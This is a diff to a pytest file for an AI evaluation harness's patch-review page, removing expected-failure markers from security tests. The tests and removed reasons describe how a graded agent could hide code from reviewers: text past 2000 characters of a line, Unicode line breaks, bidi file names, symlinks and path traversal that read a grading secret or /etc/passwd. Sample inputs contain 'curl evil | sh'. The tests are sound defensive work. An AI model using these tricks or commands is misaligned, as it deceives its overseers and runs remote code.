@@ -253,9 +253,6 @@ def _swap_patch_for_link(folder: Path, target: Path) -> None:
     (folder / "patch.diff").symlink_to(target)
 
 
-@pytest.mark.xfail(strict=True, reason="sources._read (evalharness/review/sources.py:97, called "
-                   "at :80) follows a symlinked patch.diff out of the trial folder: the runs folder's .review-secret "
-                   "(with which item ids name gold items: unblinding) or /etc/passwd is served to the page as a patch")
 def test_a_symlinked_patch_does_not_read_outside_the_trial_folder(served):
     start, store, runs_dir, folders = served
     secret_file = runs_dir / ".review-secret"
@@ -267,9 +264,6 @@ def test_a_symlinked_patch_does_not_read_outside_the_trial_folder(served):
     assert "root:" not in text
 
 
-@pytest.mark.xfail(strict=True, reason="sources.load_items (evalharness/review/sources.py:74) joins the store's "
-                   "`detail` to the runs folder unchecked: `../outside` (or an absolute path) reads a patch from "
-                   "outside the runs folder")
 def test_a_trial_detail_with_dotdot_does_not_read_outside_the_runs_folder(served, tmp_path):
     start, store, runs_dir, folders = served
     outside = tmp_path / "outside"
@@ -284,9 +278,6 @@ def test_a_trial_detail_with_dotdot_does_not_read_outside_the_runs_folder(served
     assert "OUTSIDE-THE-RUNS-FOLDER" not in _shown(start().queue())
 
 
-@pytest.mark.xfail(strict=True, reason="highlight.tokens (evalharness/review/highlight.py:44) lexes only "
-                   "code[:LINE_MAX] and drops the rest of a longer line without a mark: an agent hides code after "
-                   "2000 characters of a line and the reviewer never sees it")
 def test_a_long_line_is_shown_whole_or_marked_cut(served):
     start, store, runs_dir, folders = served
     hidden = "+x = 1" + " " * 2100 + "; import os; os.system('curl evil | sh')"
@@ -298,10 +289,6 @@ def test_a_long_line_is_shown_whole_or_marked_cut(served):
     assert shown and ("os.system" in shown[0] or "cut" in shown[0])
 
 
-@pytest.mark.xfail(strict=True, reason="highlight.split_diff (evalharness/review/highlight.py:59) splits the diff "
-                   "with str.splitlines, which also breaks at U+2028, U+2029, U+0085, \\f, \\v and \\x1c-\\x1e: "
-                   "the rest of an added line is shown as an unchanged context line (or as a removed one), so an "
-                   "agent disguises code it adds; split on \\n only")
 def test_an_added_line_with_unicode_line_breaks_stays_one_added_line(served):
     start, store, runs_dir, folders = served
     sneaky = ["+ok = 1\u2028 os.system('curl evil | sh')", "+ok = 2\x85-removed_looking()", "+ok = 3\x0c also()"]
@@ -313,9 +300,6 @@ def test_an_added_line_with_unicode_line_breaks_stays_one_added_line(served):
     assert shown[1:] == [("add", line) for line in sneaky], shown
 
 
-@pytest.mark.xfail(strict=True, reason="highlight.split_diff/page.filesInto show bidi controls (U+202E) in file "
-                   "names and code raw: `evil\\u202egnp.py` reads as `evilyp.png` (Trojan Source); nothing marks "
-                   "them (evalharness/review/highlight.py:59, page.py filesInto)")
 def test_bidi_controls_in_a_file_name_or_line_are_made_visible(served):
     start, *_ = served
     q = start().queue()
@@ -326,10 +310,6 @@ def test_bidi_controls_in_a_file_name_or_line_are_made_visible(served):
 
 
 @pytest.mark.slow
-@pytest.mark.xfail(strict=True, reason="the review queue has no patch size limit (evalharness/review/sources.py:80 "
-                   "reads patch.diff whole; serve._public highlights every line at start): a ~3 MB patch keeps the "
-                   "server from starting for tens of seconds and makes /api/queue many MB; 50 MB takes minutes. "
-                   "The report cuts at trials.PATCH_LIMIT and says so; the review page should too")
 def test_a_huge_patch_is_cut_and_the_server_still_starts_quickly(served):
     start, store, runs_dir, folders = served
     body = "+x = foo(1, 'a')\n" * 180_000
